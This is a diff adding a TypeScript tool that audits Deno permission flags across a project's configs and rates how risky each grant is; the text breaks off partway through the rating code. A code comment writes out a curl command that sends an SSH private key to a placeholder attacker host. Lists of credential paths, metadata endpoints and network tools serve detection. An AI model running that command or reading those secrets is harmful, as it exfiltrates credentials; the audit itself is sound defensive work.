@@ -1,0 +1,1556 @@
+/**
+ * A static audit of the Deno permissions a project grants: finds every
+ * `deno run|serve|test|compile|install|bench|eval|repl` command (deno.json
+ * tasks, package.json scripts, shebang lines, shell scripts, Makefiles, CI
+ * YAML, Dockerfiles, Procfiles, Markdown code blocks), parses its permission
+ * flags the way Deno 2.9 does, and rates each grant critical to info with a
+ * one-line why and a narrower flag to use instead. A recorded run (an
+ * `AuditReport` from `deno task audit --json`, see audit/report.ts) turns the advice into
+ * the exact flags that run used.
+ *
+ * Why one file over the ~400-line guide: the task that added `audit:flags`
+ * fixed the file set. The sections follow the pipeline (walk, extract,
+ * tokenise, parse, rate, suggest); each is a candidate for a `_` file.
+ *
+ * Every flag rule below was checked against Deno 2.9.6 by experiment:
+ * - a bare `--allow-read /etc x.ts` grants ALL reads and runs `/etc` as the
+ *   script: lists need `=`;
+ * - short flags combine (`-RN` is `-R -N`), and the rest of a cluster that
+ *   is not a known flag is the value (`-R/tmp` is `--allow-read=/tmp`);
+ * - flags after the script belong to the script (`deno run x.ts -A` grants
+ *   nothing), except for `deno test` and `deno bench`;
+ * - `deno eval` runs with every permission whatever the flags, `--deny-*`
+ *   included;
+ * - deny beats allow; `--allow-hrtime` is a no-op with a warning.
+ *
+ * @module
+ */
+
+import { basename, dirname, join, relative, resolve } from "node:path";
+import { parseJsonc } from "../../harness/_jsonc.ts";
+
+// ── Model ───────────────────────────────────────────────────────────────
+
+/** How bad a grant is, from `info` (nothing to fix) to `critical`. */
+export type Severity = "critical" | "high" | "medium" | "low" | "info";
+
+/** Severities from least to most severe. */
+export const SEVERITIES: readonly Severity[] = [
+  "info",
+  "low",
+  "medium",
+  "high",
+  "critical",
+];
+
+/** One risky grant (or missing safeguard) at one place in the project. */
+export interface Finding {
+  /** The file, relative to the audited directory (or `relativeTo`). */
+  file: string;
+  /** 1-based line of the command (the task's key in deno.json). */
+  line: number;
+  /** The deno command as written, from `deno` on. */
+  command: string;
+  /** The flag this is about, as written (`-A`, `--allow-read=~/.ssh`). */
+  flag: string;
+  /** How bad it is. */
+  severity: Severity;
+  /** One line: what the grant lets the program do. */
+  message: string;
+  /** One line: the narrower flag to use instead. */
+  suggestion: string;
+}
+
+/** A Deno permission that takes a list. */
+export type PermissionKind =
+  | "read"
+  | "write"
+  | "net"
+  | "env"
+  | "sys"
+  | "run"
+  | "ffi"
+  | "import";
+
+/** One granting flag; `values` null means "everything of this kind". */
+export interface Grant {
+  /** The permission, or `all` (-A), `hrtime`, `scripts` (npm lifecycle). */
+  kind: PermissionKind | "all" | "hrtime" | "scripts";
+  /** The list, or null for all. */
+  values: string[] | null;
+  /** The flag as written. */
+  flag: string;
+}
+
+/** One `--deny-*` flag; `values` null denies the whole kind. */
+export interface Deny {
+  /** The permission denied. */
+  kind: PermissionKind;
+  /** The list, or null for all. */
+  values: string[] | null;
+  /** The flag as written. */
+  flag: string;
+}
+
+/** Deno subcommands whose flags grant permissions. */
+export type Subcommand =
+  | "run"
+  | "serve"
+  | "test"
+  | "compile"
+  | "install"
+  | "bench"
+  | "eval"
+  | "repl";
+
+/** What {@linkcode parseDenoCommand} understood of one command line. */
+export interface ParsedDenoCommand {
+  /** The subcommand (`deno x.ts` is `run`, `deno -A` alone is `repl`). */
+  subcommand: Subcommand;
+  /** The script (first positional), or null. */
+  script: string | null;
+  /** Granting flags, in order. */
+  grants: Grant[];
+  /** Deny flags, in order. */
+  denies: Deny[];
+  /** `--no-prompt` given. */
+  noPrompt: boolean;
+  /** `-P`/`--permission-set`: the set's name ("default" when bare). */
+  permissionSet: { name: string; flag: string } | null;
+  /** `deno install -g`: grants are baked into an installed command. */
+  global: boolean;
+  /** Flags Deno rejects or this parser does not know. */
+  problems: { flag: string; message: string }[];
+  /** A bare list flag whose intended list Deno took as the script. */
+  misplacedValue: { flag: string; word: string } | null;
+}
+
+const LIST_KINDS: readonly PermissionKind[] = [
+  "read",
+  "write",
+  "net",
+  "env",
+  "sys",
+  "run",
+  "ffi",
+  "import",
+];
+
+const SUBCOMMANDS: Record<string, Subcommand> = {
+  run: "run",
+  serve: "serve",
+  test: "test",
+  compile: "compile",
+  install: "install",
+  i: "install",
+  bench: "bench",
+  eval: "eval",
+  repl: "repl",
+};
+
+const SHORT_ALLOW: Record<string, PermissionKind> = {
+  R: "read",
+  W: "write",
+  N: "net",
+  E: "env",
+  S: "sys",
+  I: "import",
+};
+/**
+ * Short flags without a value, and those whose value is the rest of the
+ * cluster or the next word, per subcommand (from `deno <sub> --help`).
+ * Which letters a subcommand knows matters: `-Nfoo.com` is
+ * `--allow-net=foo.com` for `run` but `-N -f -o o.com` for `install`.
+ */
+const SHORT_PLAIN: Record<Subcommand, string> = {
+  run: "AqhV",
+  serve: "AqhV",
+  test: "AqhVu",
+  bench: "AqhV",
+  compile: "AqhV",
+  install: "AqhVgfDOe",
+  eval: "AqhVp",
+  repl: "AqhV",
+};
+const SHORT_VALUE: Record<Subcommand, string> = {
+  run: "cL",
+  serve: "cL",
+  test: "cL",
+  bench: "cL",
+  compile: "cLo",
+  install: "cLn",
+  eval: "cL",
+  repl: "cL",
+};
+/** Short flags with an optional `=` value (`-r`, `-P`, and the allows). */
+const SHORT_OPTIONAL = new Set(["r", "P", ...Object.keys(SHORT_ALLOW)]);
+/** Long flags that take the next word as their value (from `deno * --help`). */
+const LONG_VALUE = new Set(
+  ("app-name arch cert conditions config coverage-threshold engine eval " +
+    "eval-file exclude ext filter host icon import-map include " +
+    "inspect-publish-uid junit-path location log-level min-dep-age name " +
+    "node-modules-linker os output port preload related repeats reporter " +
+    "require retry root seed shard target").split(" "),
+);
+const SCRIPT_LIKE = /\.(?:[mc]?[jt]sx?)$|^(?:https?|npm|jsr):/;
+
+// ── Parsing one command's arguments ─────────────────────────────────────
+
+/**
+ * Parses the words after `deno` as Deno 2.9 does, keeping what matters for
+ * permissions.
+ *
+ * @param args The words after `deno` (already unquoted).
+ * @returns The parse, or null when the command grants nothing by
+ * construction (`deno task`, `deno fmt`, `deno --version`, bare `deno`).
+ *
+ * @example Usage
+ * ```ts
+ * import { parseDenoCommand } from "./mod.ts";
+ * const parsed = parseDenoCommand(["run", "-RN=api.example.com", "main.ts"]);
+ * console.log(parsed?.grants.map((g) => `${g.kind}:${g.values}`));
+ * // [ "read:null", "net:api.example.com" ]
+ * ```
+ */
+export function parseDenoCommand(
+  args: readonly string[],
+): ParsedDenoCommand | null {
+  let i = 0;
+  // Global flags may come before the subcommand (`deno -q run x.ts`).
+  while (i < args.length) {
+    const a = args[i]!;
+    if (a === "-q" || a === "--quiet" || /^--(log-level=|unstable)/.test(a)) {
+      i++;
+    } else if (a === "-L" || a === "--log-level") i += 2;
+    else break;
+  }
+  const first = args[i];
+  if (first === undefined) return null;
+  const named = Object.hasOwn(SUBCOMMANDS, first) ? SUBCOMMANDS[first] : null;
+  if (!named && !first.startsWith("-") && !SCRIPT_LIKE.test(first)) return null;
+  const subcommand: Subcommand = named ?? "run";
+  if (named) i++;
+  const parsed: ParsedDenoCommand = {
+    subcommand,
+    script: null,
+    grants: [],
+    denies: [],
+    noPrompt: false,
+    permissionSet: null,
+    global: false,
+    problems: [],
+    misplacedValue: null,
+  };
+  // For these, the first positional ends Deno's flags: the rest are the
+  // script's own arguments.
+  const stopsAtScript = subcommand !== "test" && subcommand !== "bench" &&
+    subcommand !== "repl";
+  let bareListFlag: string | null = null;
+  for (; i < args.length; i++) {
+    const a = args[i]!;
+    const previousBare = bareListFlag;
+    bareListFlag = null;
+    if (a === "--") break;
+    if (a.startsWith("--")) {
+      const eq = a.indexOf("=");
+      const name = eq === -1 ? a.slice(2) : a.slice(2, eq);
+      const value = eq === -1 ? null : a.slice(eq + 1);
+      if (longFlag(parsed, name, value, a)) {
+        if (value === null && /^allow-(?!all$|hrtime$)/.test(name)) {
+          bareListFlag = parsed.grants.at(-1)?.flag ?? null;
+        }
+      } else if (LONG_VALUE.has(name) && value === null) i++;
+    } else if (a.startsWith("-") && a.length > 1) {
+      const result = shortCluster(parsed, a);
+      if (result === "next") i++;
+      else if (result === "bare" && !a.endsWith("P")) {
+        bareListFlag = parsed.grants.at(-1)?.flag ?? null;
+      }
+    } else {
+      if (subcommand === "repl") continue;
+      if (parsed.script === null) {
+        parsed.script = a;
+        if (previousBare && stopsAtScript && !SCRIPT_LIKE.test(a)) {
+          parsed.misplacedValue = { flag: previousBare, word: a };
+        }
+      }
+      if (stopsAtScript) break;
+    }
+  }
+  if (!named) {
+    const flagged = parsed.grants.length > 0 || parsed.denies.length > 0 ||
+      parsed.permissionSet !== null || parsed.problems.length > 0;
+    if (parsed.script === null && !flagged) return null;
+    if (parsed.script === null) parsed.subcommand = "repl";
+  }
+  if (subcommand === "install" && !parsed.global) {
+    // A local install only fetches dependencies; only lifecycle scripts run.
+    parsed.grants = parsed.grants.filter((g) => g.kind === "scripts");
+  }
+  return parsed;
+}
+
+/** Handles one `--name[=value]`; true when it is a permission flag. */
+function longFlag(
+  parsed: ParsedDenoCommand,
+  name: string,
+  value: string | null,
+  written: string,
+): boolean {
+  const list = value === null ? null : splitList(value);
+  const match = name.match(/^(allow|deny)-(.+)$/);
+  if (match && list?.length === 0) {
+    problem(parsed, written, `Deno rejects the empty list in '${written}'`);
+    return true;
+  }
+  if (name === "no-prompt") parsed.noPrompt = true;
+  else if (name === "global") parsed.global = true;
+  else if (name === "permission-set") {
+    parsed.permissionSet = { name: value || "default", flag: written };
+  } else if (name === "allow-all") {
+    if (value !== null) problem(parsed, written, "--allow-all takes no value");
+    else parsed.grants.push({ kind: "all", values: null, flag: written });
+  } else if (name === "allow-hrtime" || name === "deny-hrtime") {
+    parsed.grants.push({ kind: "hrtime", values: null, flag: written });
+  } else if (name === "allow-scripts") {
+    parsed.grants.push({ kind: "scripts", values: list, flag: written });
+  } else if (match && LIST_KINDS.includes(match[2] as PermissionKind)) {
+    const kind = match[2] as PermissionKind;
+    if (match[1] === "allow") {
+      parsed.grants.push({ kind, values: list, flag: written });
+    } else parsed.denies.push({ kind, values: list, flag: written });
+  } else if (match) {
+    problem(parsed, written, `Deno rejects '--${name}' (no such permission)`);
+  } else return false;
+  return true;
+}
+
+/**
+ * Handles `-X...`: "next" when the next word is its value, "bare" when it
+ * ends with a list flag without a value.
+ */
+function shortCluster(
+  parsed: ParsedDenoCommand,
+  word: string,
+): "next" | "bare" | "done" {
+  for (let j = 1; j < word.length; j++) {
+    const c = word[j]!;
+    const rest = word.slice(j + 1);
+    const shown = (value: string | null) => {
+      const flag = value === null ? `-${c}` : `-${c}=${value}`;
+      return flag === word ? flag : `${flag} (in ${word})`;
+    };
+    if (SHORT_OPTIONAL.has(c)) {
+      // Deno (clap): `-R=x` and `-Rx` give the value x unless the rest
+      // starts with another known short flag (`-RN` is `-R -N`).
+      let value: string | null = null;
+      if (rest.startsWith("=")) value = rest.slice(1);
+      else if (rest !== "" && !isKnownShort(parsed.subcommand, rest[0]!)) {
+        value = rest;
+      }
+      if (value === "" && c !== "r") {
+        problem(parsed, word, `Deno rejects the empty list in '${word}'`);
+        return "done";
+      }
+      if (c === "P") {
+        parsed.permissionSet = { name: value || "default", flag: shown(value) };
+      } else if (c !== "r") {
+        parsed.grants.push({
+          kind: SHORT_ALLOW[c]!,
+          values: value === null ? null : splitList(value),
+          flag: shown(value),
+        });
+      }
+      if (value !== null) return "done";
+      if (rest === "") return c === "r" ? "done" : "bare";
+    } else if (c === "A") {
+      parsed.grants.push({ kind: "all", values: null, flag: shown(null) });
+    } else if (c === "g" && parsed.subcommand === "install") {
+      parsed.global = true;
+    } else if (SHORT_VALUE[parsed.subcommand].includes(c)) {
+      return rest === "" ? "next" : "done";
+    } else if (!SHORT_PLAIN[parsed.subcommand].includes(c)) {
+      problem(parsed, word, `Deno rejects '-${c}' in '${word}'`);
+      return "done";
+    }
+  }
+  return "done";
+}
+
+function isKnownShort(subcommand: Subcommand, c: string): boolean {
+  return SHORT_PLAIN[subcommand].includes(c) ||
+    SHORT_VALUE[subcommand].includes(c) || SHORT_OPTIONAL.has(c);
+}
+
+function problem(parsed: ParsedDenoCommand, flag: string, message: string) {
+  parsed.problems.push({ flag, message });
+}
+
+function splitList(value: string): string[] {
+  return value.split(",").map((v) => v.trim()).filter((v) => v !== "");
+}
+
+// ── Tokenising shell-like text ──────────────────────────────────────────
+
+/**
+ * Splits one logical shell line into simple commands: on `&&`, `||`, `;`,
+ * `|`, `&`, parentheses, backticks and `$(`; quotes removed, redirections
+ * and `#` comments dropped. Variables stay as written (`$HOME`).
+ */
+function shellCommands(line: string): string[][] {
+  const commands: string[][] = [];
+  let words: string[] = [];
+  let word = "";
+  let inWord = false;
+  let redirectTarget = false;
+  const endWord = () => {
+    if (inWord && !redirectTarget) words.push(word);
+    else if (inWord) redirectTarget = false;
+    word = "";
+    inWord = false;
+  };
+  const endCommand = () => {
+    endWord();
+    redirectTarget = false;
+    if (words.length > 0) commands.push(words);
+    words = [];
+  };
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i]!;
+    if (c === "'") {
+      const close = line.indexOf("'", i + 1);
+      const end = close === -1 ? line.length : close;
+      word += line.slice(i + 1, end);
+      inWord = true;
+      i = end;
+    } else if (c === '"') {
+      inWord = true;
+      for (i++; i < line.length && line[i] !== '"'; i++) {
+        if (line[i] === "\\" && '"\\$`'.includes(line[i + 1] ?? "x")) i++;
+        word += line[i];
+      }
+    } else if (c === "\\") {
+      inWord = true;
+      word += line[++i] ?? "";
+    } else if (" \t\r\n".includes(c)) {
+      endWord();
+    } else if (c === "#" && !inWord) {
+      break;
+    } else if (c === "$" && line[i + 1] === "(") {
+      endCommand();
+      i++;
+    } else if ("&|;()`".includes(c)) {
+      endCommand();
+      if (line[i + 1] === c && c !== "(" && c !== ")") i++;
+    } else if (c === "<" || c === ">") {
+      // `2>&1`, `>/dev/null`, `<<EOF`: the fd number and target are no words.
+      if (inWord && /^\d+$/.test(word)) {
+        word = "";
+        inWord = false;
+      } else endWord();
+      while ("<>&".includes(line[i + 1] ?? "x")) i++;
+      redirectTarget = true;
+    } else {
+      inWord = true;
+      word += c;
+    }
+  }
+  endCommand();
+  return commands;
+}
+
+/** Lines joined at a trailing backslash, each with its first line number. */
+function logicalLines(
+  lines: readonly string[],
+): { text: string; line: number }[] {
+  const out: { text: string; line: number }[] = [];
+  for (let i = 0; i < lines.length; i++) {
+    const start = i + 1;
+    let text = lines[i]!;
+    while (/(?:^|[^\\])(?:\\\\)*\\$/.test(text) && i + 1 < lines.length) {
+      text = text.slice(0, -1) + " " + lines[++i]!;
+    }
+    out.push({ text, line: start });
+  }
+  return out;
+}
+
+// ── Finding commands in files ──────────────────────────────────────────
+
+/** Where a command sits; prompts cannot be answered in all but `script`/`docs`. */
+export type Context = "task" | "ci" | "docker" | "shebang" | "script" | "docs";
+
+/** One deno command found in a file. */
+export interface CommandSite {
+  /** 1-based line. */
+  line: number;
+  /** What kind of place it is in. */
+  context: Context;
+  /** The words from `deno` on. */
+  words: string[];
+  /** `DENO_NO_PROMPT=...` set in front of it. */
+  noPromptEnv: boolean;
+}
+
+const DENO_WORD = /^(?:\S*\/)?deno(?:\.exe)?(?:@[\w.^~<>=-]+)?$/;
+const SHELLS = /^(?:ba|z|da|k|fi|c|tc)?sh$/;
+
+/**
+ * Finds the deno commands in one file's text, by the file's name: tasks of
+ * deno.json/deno.jsonc, scripts of package.json, the shebang line of any
+ * file, and lines of shell scripts, Makefiles, YAML, Dockerfiles, Procfiles
+ * and Markdown code blocks.
+ *
+ * @param text The file's text.
+ * @param path The file's path (its name decides how it is read).
+ * @returns The commands, in file order.
+ *
+ * @example Usage
+ * ```ts
+ * import { findDenoCommands } from "./mod.ts";
+ * const sites = findDenoCommands("build:\n\tdeno fmt && deno run -A x.ts\n", "Makefile");
+ * console.log(sites.map((s) => `${s.line}: ${s.words.join(" ")}`)); // [ "2: deno run -A x.ts" ]
+ * ```
+ */
+export function findDenoCommands(text: string, path: string): CommandSite[] {
+  const name = basename(path);
+  const lower = name.toLowerCase();
+  const lines = text.replaceAll("\r\n", "\n").split("\n");
+  const sites: CommandSite[] = [];
+  if (lines[0]?.startsWith("#!") && /deno/.test(lines[0])) {
+    sites.push(...fromShell(lines[0].slice(2), 1, "shebang"));
+  }
+  if (name === "deno.json" || name === "deno.jsonc") {
+    return [...sites, ...fromJsonScripts(text, "tasks")];
+  }
+  if (name === "package.json") {
+    return [...sites, ...fromJsonScripts(text, "scripts")];
+  }
+  let context: Context | null = null;
+  if (/\.(?:sh|bash|zsh|ksh)$/.test(lower)) context = "script";
+  else if (/^(?:gnu)?makefile$|\.mk$/.test(lower)) context = "task";
+  else if (/\.ya?ml$/.test(lower)) context = "ci";
+  else if (/^(?:docker|container)file|\.dockerfile$/.test(lower)) {
+    context = "docker";
+  } else if (lower === "procfile") context = "task";
+  else if (/\.(?:md|markdown|mdx)$/.test(lower)) context = "docs";
+  else if (
+    !name.includes(".") && /^#!.*\b(?:ba|z|da|k)?sh\b/.test(lines[0] ?? "")
+  ) {
+    context = "script";
+  }
+  if (context === null) return sites;
+  let fenced = context !== "docs";
+  for (const { text: raw, line } of logicalLines(lines)) {
+    if (line === 1 && raw.startsWith("#!")) continue;
+    if (context === "docs" && /^\s*(?:```|~~~)/.test(raw)) {
+      fenced = !fenced;
+      continue;
+    }
+    if (!fenced) continue;
+    let text = raw;
+    if (context === "task" && text.startsWith("\t")) {
+      text = text.replace(/^\t[@+-]*/, ""); // make's silent/ignore prefixes
+    }
+    if (context === "ci") text = unquoteYamlScalar(text);
+    const exec = execForm(text);
+    sites.push(
+      ...(exec
+        ? fromWords(exec, line, context)
+        : fromShell(text, line, context)),
+    );
+  }
+  return sites;
+}
+
+/** `key: "deno run ..."` → `deno run ...` (a quoted YAML scalar is one string). */
+function unquoteYamlScalar(text: string): string {
+  const m = text.match(/^\s*(?:-\s+)*(?:[\w.$-]+:\s+)?(["'])(.*)\1\s*$/);
+  if (!m) return text;
+  return m[1] === "'"
+    ? m[2]!.replaceAll("''", "'")
+    : m[2]!.replace(/\\(["\\])/g, "$1");
+}
+
+/** An exec-form array (`CMD ["deno", "run", ...]`) naming deno, or null. */
+function execForm(text: string): string[] | null {
+  const m = text.match(
+    /\[\s*"(?:[^"\\]|\\.)*"(?:\s*,\s*"(?:[^"\\]|\\.)*")*\s*\]/,
+  );
+  if (!m || !m[0].includes("deno")) return null;
+  try {
+    const words: unknown = JSON.parse(m[0]);
+    return Array.isArray(words) && words.every((w) => typeof w === "string")
+      ? words
+      : null;
+  } catch {
+    return null;
+  }
+}
+
+function fromShell(
+  text: string,
+  line: number,
+  context: Context,
+): CommandSite[] {
+  return shellCommands(text).flatMap((words) =>
+    fromWords(words, line, context)
+  );
+}
+
+/** The deno command in one simple command, looking inside `sh -c '...'`. */
+function fromWords(
+  words: string[],
+  line: number,
+  context: Context,
+): CommandSite[] {
+  const at = words.findIndex((w) => DENO_WORD.test(w));
+  if (at > 0 && /^(?:echo|printf)$/.test(words[0]!)) return [];
+  const dashC = words.findIndex((w, k) =>
+    /^-[a-z]*c$/.test(w) &&
+    words.slice(0, k).some((s) => SHELLS.test(basename(s)))
+  );
+  if (dashC !== -1 && (at === -1 || dashC < at) && words[dashC + 1]) {
+    return fromShell(words[dashC + 1]!, line, context);
+  }
+  if (at === -1) return [];
+  const noPromptEnv = words.slice(0, at).some((w) =>
+    /^DENO_NO_PROMPT=./.test(w)
+  );
+  return [{ line, context, words: words.slice(at), noPromptEnv }];
+}
+
+/** Commands of deno.json `tasks` or package.json `scripts`, at their key's line. */
+function fromJsonScripts(
+  text: string,
+  key: "tasks" | "scripts",
+): CommandSite[] {
+  let json: unknown;
+  try {
+    json = parseJsonc(text);
+  } catch {
+    // Unparseable config: read it line by line rather than skip it.
+    return logicalLines(text.split("\n")).flatMap(({ text, line }) =>
+      [...text.matchAll(/"((?:[^"\\]|\\.)*)"/g)].flatMap((m) =>
+        fromShell(m[1]!.replace(/\\(.)/g, "$1"), line, "task")
+      )
+    );
+  }
+  const scripts = isRecord(json) && isRecord(json[key]) ? json[key] : {};
+  let from = Math.max(0, text.indexOf(`"${key}"`));
+  const sites: CommandSite[] = [];
+  for (const [name, value] of Object.entries(scripts)) {
+    const command = typeof value === "string"
+      ? value
+      : isRecord(value) && typeof value.command === "string"
+      ? value.command
+      : null;
+    if (command === null) continue;
+    // The key's line: the next `"name":` after the previous task's key.
+    const keyPattern = new RegExp(
+      `${escapeRegExp(JSON.stringify(name))}\\s*:`,
+      "g",
+    );
+    keyPattern.lastIndex = from;
+    from = keyPattern.exec(text)?.index ?? from;
+    const line = text.slice(0, from).split("\n").length;
+    sites.push(...fromShell(command, line, "task"));
+  }
+  return sites;
+}
+
+function escapeRegExp(text: string): string {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+}
+
+function isRecord(value: unknown): value is Record<string, unknown> {
+  return typeof value === "object" && value !== null && !Array.isArray(value);
+}
+
+// ── Rating ──────────────────────────────────────────────────────────────
+
+interface Rated {
+  severity: Severity;
+  message: string;
+  suggestion: string;
+}
+
+const HOME =
+  /^(?:~|\$\{?HOME\}?|\/root|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?)$/;
+const HOME_PREFIX = /^(?:~|\$\{?HOME\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+)\//;
+const SECRET_NAMES = new Set([
+  ".ssh",
+  ".aws",
+  ".config",
+  ".gnupg",
+  ".kube",
+  ".docker",
+  ".azure",
+  ".netrc",
+  ".npmrc",
+  ".pgpass",
+  ".git-credentials",
+  ".vault-token",
+]);
+/**
+ * Programs that run arbitrary code or fetch it: a child process is outside
+ * Deno's checks, so `--allow-run=bash` is `bash -c 'curl -d @~/.ssh/id_rsa
+ * evil.example'`, i.e. -A. Other programs are still outside the sandbox.
+ */
+const INTERPRETERS =
+  /^(?:deno|(?:ba|z|da|k|fi|c|tc)?sh|pwsh|powershell|cmd|python[\d.]*|node(?:js)?|bun|npm|npx|pnpm|yarn|ruby|perl|php|lua|curl|wget|env|sudo|su|doas|xargs|nohup|timeout|docker|podman|kubectl|ssh|awk|gawk|find|make|osascript)$/;
+const CODE_FILE = /\.(?:[mc]?[jt]sx?|sh)$/;
+const CONFIG_FILE =
+  /^(?:deno\.jsonc?|deno\.lock|package(?:-lock)?\.json|import_map\.json|tsconfig\.json|Makefile|Dockerfile)$/;
+const DEFAULT_IMPORT_HOSTS = new Set([
+  "jsr.io",
+  "deno.land",
+  "esm.sh",
+  "cdn.jsdelivr.net",
+  "raw.githubusercontent.com",
+  "gist.githubusercontent.com",
+]);
+
+function cleanPath(path: string): string {
+  const p = path.replace(/^\$\{(\w+)\}/, "$$$1");
+  return p.length > 1 ? p.replace(/\/+$/, "") : p;
+}
+
+/** Why reading `path` exposes secrets, or null. */
+function secretRead(path: string): string | null {
+  const p = cleanPath(path);
+  if (p === "/") return "the whole filesystem";
+  if (HOME.test(p)) return "the home directory: keys, tokens, shell history";
+  const segments = p.split("/");
+  if (segments.some((s) => SECRET_NAMES.has(s))) return "credentials";
+  if (/^\.env(?:\..*|rc)?$/.test(segments.at(-1) ?? "")) return "secrets";
+  if (/^\/proc(?:\/|$)/.test(p)) return "other processes' environments";
+  if (/^\/etc(?:\/|$)/.test(p)) return "system configuration";
+  if (/^\/(?:var\/)?run\/secrets(?:\/|$)/.test(p)) return "mounted secrets";
+  return null;
+}
+
+/**
+ * Why writing `path` is dangerous, or null: a program that may write the
+ * project's code, deno.json, git hooks, a shell profile or Deno's module
+ * cache runs its own code next time, outside any review of this command.
+ */
+function riskyWrite(path: string): string | null {
+  const p = cleanPath(path);
+  if (p === "/") return "the whole filesystem";
+  if (HOME.test(p) || HOME_PREFIX.test(p)) {
+    return "the home directory: shell profiles, keys, Deno's module cache";
+  }
+  if (/^\/(?:etc|usr|bin|sbin|lib|boot)(?:\/|$)/.test(p)) return "system files";
+  const rel = p.replace(/^\.\//, "");
+  if ([".", "../../harness/", "..", "$PWD"].includes(p) || rel === "") {
+    return "the whole project: its code and deno.json";
+  }
+  const top = rel.split("/")[0]!;
+  if (
+    ["src", "lib", "bin", "app", "scripts", ".git", ".github"].includes(top)
+  ) {
+    return "code or config";
+  }
+  const last = rel.split("/").at(-1)!;
+  if (CODE_FILE.test(last) || CONFIG_FILE.test(last)) return "code or config";
+  return null;
+}
+
+function hostOf(value: string): string {
+  if (value.startsWith("[")) return value.slice(1, value.indexOf("]"));
+  const colons = value.split(":").length - 1;
+  return colons === 1 ? value.slice(0, value.indexOf(":")) : value;
+}
+
+const isLocalHost = (h: string) =>
+  /^(?:localhost|127(?:\.\d+){3}|::1?|0\.0\.0\.0)$/.test(hostOf(h));
+/** Cloud metadata endpoints hand out the machine's credentials to any GET. */
+const isMetadataHost = (h: string) =>
+  /^(?:169\.254\.\d+\.\d+|metadata(?:\.google\.internal)?|100\.100\.100\.200|fd00:ec2::254)$/
+    .test(hostOf(h));
+const isSecretEnv = (name: string) =>
+  /TOKEN|KEY|SECRET|PASSW|CREDENTIAL|PRIVATE|AUTH/i.test(name) ||
+  /^AWS_/i.test(name);
+
+const LIST_HINT: Record<PermissionKind, string> = {
+  read: "list the paths it reads: --allow-read=./data,./config.json",
+  write: "list only output paths: --allow-write=./dist",
+  net: "list the hosts: --allow-net=api.example.com",
+  env: "list the variables: --allow-env=PORT,LOG_LEVEL",
+  sys: "list the APIs: --allow-sys=osRelease,hostname",
+  run:
+    "remove --allow-run; if unavoidable, list exact programs (--allow-run=git), never a shell or interpreter",
+  ffi:
+    "remove --allow-ffi; if unavoidable, list the exact library: --allow-ffi=./libfoo.so",
+  import: "list the hosts: --allow-import=jsr.io,esm.sh, or vendor the code",
+};
+
+function rateList(kind: PermissionKind, values: string[] | null): Rated {
+  const rated = (
+    severity: Severity,
+    message: string,
+    suggestion = LIST_HINT[kind],
+  ) => ({
+    severity,
+    message,
+    suggestion,
+  });
+  const matches = (test: (v: string) => unknown) =>
+    values?.filter((v) => test(v)) ?? [];
+  const all = values === null || values.includes("*");
+  if (values !== null && values.length === 0) {
+    return rated(
+      "info",
+      "every listed value is denied: no effect",
+      "delete the flag",
+    );
+  }
+  switch (kind) {
+    case "read": {
+      if (all) {
+        return rated(
+          "high",
+          "reads every file the user can: ~/.ssh, ~/.aws, .env",
+        );
+      }
+      const secrets = matches(secretRead);
+      if (secrets.length > 0) {
+        return rated(
+          "high",
+          `reads ${secrets.map((s) => `${s}: ${secretRead(s)}`).join("; ")}`,
+          `drop ${secrets.join(", ")}; grant only the files the program reads`,
+        );
+      }
+      if (
+        matches((v) => [".", "../../harness/", "$PWD"].includes(cleanPath(v)))
+          .length > 0
+      ) {
+        return rated(
+          "medium",
+          "reads the whole project, any .env in it included",
+        );
+      }
+      return rated(
+        "low",
+        "reads only the listed paths",
+        "keep the list as narrow as the program needs",
+      );
+    }
+    case "write": {
+      if (all) {
+        return rated(
+          "high",
+          "writes anywhere: can plant code in the project, shell profiles, git hooks",
+        );
+      }
+      const risky = matches(riskyWrite);
+      if (risky.length > 0) {
+        return rated(
+          "high",
+          `can rewrite what runs later: ${
+            risky.map((r) => `${r} (${riskyWrite(r)})`).join(", ")
+          }`,
+          "write to a dedicated output directory only: --allow-write=./out",
+        );
+      }
+      return rated(
+        "low",
+        "writes only to the listed paths",
+        "keep the list as narrow as the program needs",
+      );
+    }
+    case "net": {
+      if (all) {
+        return rated(
+          "high",
+          "reaches any host: exfiltration anywhere, the cloud metadata endpoint, the LAN",
+        );
+      }
+      if (matches((v) => v.includes("docker.sock")).length > 0) {
+        return rated(
+          "critical",
+          "reaches the Docker socket, which is root on the host",
+          "remove the socket from the list",
+        );
+      }
+      const metadata = matches(isMetadataHost);
+      if (metadata.length > 0) {
+        return rated(
+          "high",
+          `reaches ${
+            metadata.join(", ")
+          }: the cloud metadata endpoint hands out credentials`,
+          `drop ${metadata.join(", ")}`,
+        );
+      }
+      if (values!.every(isLocalHost)) {
+        return rated("info", "local only", "nothing to do");
+      }
+      return rated(
+        "low",
+        "reaches only the listed hosts",
+        "keep the list as narrow as the program needs",
+      );
+    }
+    case "env": {
+      if (all) {
+        return rated(
+          "high",
+          "reads every environment variable, tokens and keys included",
+        );
+      }
+      const secrets = matches(isSecretEnv);
+      if (secrets.length > 0) {
+        return rated(
+          "medium",
+          `hands the program secrets: ${secrets.join(", ")}`,
+          `keep secrets out of the program: airlock's --inject adds them on the wire (e.g. 'api.example.com:Authorization=Bearer \${env:${
+            secrets[0]
+          }}')`,
+        );
+      }
+      return rated("low", "reads only the listed variables", "nothing to do");
+    }
+    case "sys":
+      return all
+        ? rated(
+          "medium",
+          "reads host details (interfaces, uid, memory, OS) for fingerprinting",
+        )
+        : rated("low", "reads only the listed host details", "nothing to do");
+    case "run": {
+      if (all) {
+        return rated(
+          "critical",
+          "as good as all: a subprocess has no Deno sandbox, and any program may run",
+        );
+      }
+      const shells = matches((v) =>
+        INTERPRETERS.test(basename(v).replace(/\.exe$/, ""))
+      );
+      if (shells.length > 0) {
+        return rated(
+          "critical",
+          `as good as all: a subprocess has no Deno sandbox, and ${
+            shells.join(", ")
+          } runs any code`,
+        );
+      }
+      return rated(
+        "high",
+        `${
+          values!.join(", ")
+        } run outside the Deno sandbox with the user's rights`,
+      );
+    }
+    case "ffi":
+      return rated("critical", "native code runs with no Deno sandbox at all");
+    case "import": {
+      if (all) return rated("medium", "imports code from any host at run time");
+      const other = matches((v) => !DEFAULT_IMPORT_HOSTS.has(hostOf(v)));
+      if (other.length > 0) {
+        return rated(
+          "medium",
+          `imports code from non-default hosts: ${other.join(", ")}`,
+        );
+      }
+      return rated(
+        "info",
+        "these hosts are allowed by default already",
+        "delete the flag",
